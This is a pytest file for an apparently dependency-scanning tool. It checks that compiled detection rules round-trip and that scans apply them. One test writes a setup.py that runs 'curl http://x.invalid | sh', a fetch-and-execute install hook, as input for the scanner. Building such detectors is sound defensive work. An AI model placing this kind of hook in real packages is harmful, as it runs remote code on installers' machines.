"""The quick form of the rules: it says what the rule files say."""

from __future__ import annotations

from pathlib import Path

import pytest

from pydepgate import scan
from pydepgate.detect import SIGNALS
from pydepgate.judge.compiled import COMPILED_RULES, compile_rules, compiled_rules, read_compiled
from pydepgate.judge.condition import AllOf, AnyOf, Has, Not, Weighs
from pydepgate.judge.rule import Rule, Scope
from pydepgate.judge.rules import load_rules
from pydepgate.model import Runs, Severity


def test_the_shipped_rules_come_back_as_they_were_read() -> None:
    rules = load_rules(known_signals=frozenset(SIGNALS))
    assert read_compiled(compile_rules(rules)) == rules


_ONE = Rule(
    id="one",
    title="\u201cOne\u201d",
    severity=((Runs.INSTALL, Severity.INFO), (Runs.ENTRY_POINT, Severity.CRITICAL)),
    when=AnyOf(
        (
            Has("process.*"),
            AllOf((Has("a.b"), Not(AnyOf((Has("c.d@install"),))))),
            Weighs((("e.f", 0.25), ("inner.g.h", 3.0)), 2.5, ("package.",), 0.5),
        )
    ),
    attack=("T1027",),
    why="It matters.",
    scope=Scope.FILE,
    family="test",
    supersedes=("two", "three"),
    message="Seen.",
)


def test_every_kind_of_condition_comes_back() -> None:
    assert read_compiled(compile_rules([_ONE])) == (_ONE,)


def test_a_checkout_has_no_quick_form_that_could_be_older_than_its_rules() -> None:
    assert not COMPILED_RULES.exists()
    assert compiled_rules() is None


def test_a_scan_goes_by_the_quick_form_unless_there_are_other_rules(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "setup.py").write_text("import os\nos.system('curl http://x.invalid | sh')\n")
    own = tmp_path / "own"
    own.mkdir()
    (own / "own.toml").write_text('[[rule]]\nid = "decode-then-execute"\nenabled = false\n')
    found = scan(tmp_path / "setup.py").findings
    monkeypatch.setattr("pydepgate.judge.compiled.compiled_rules", lambda: (_ONE,))
    assert [finding.rule for finding in scan(tmp_path / "setup.py").findings] == ["one"]
    assert scan(tmp_path / "setup.py", rules_dir=own).findings == found
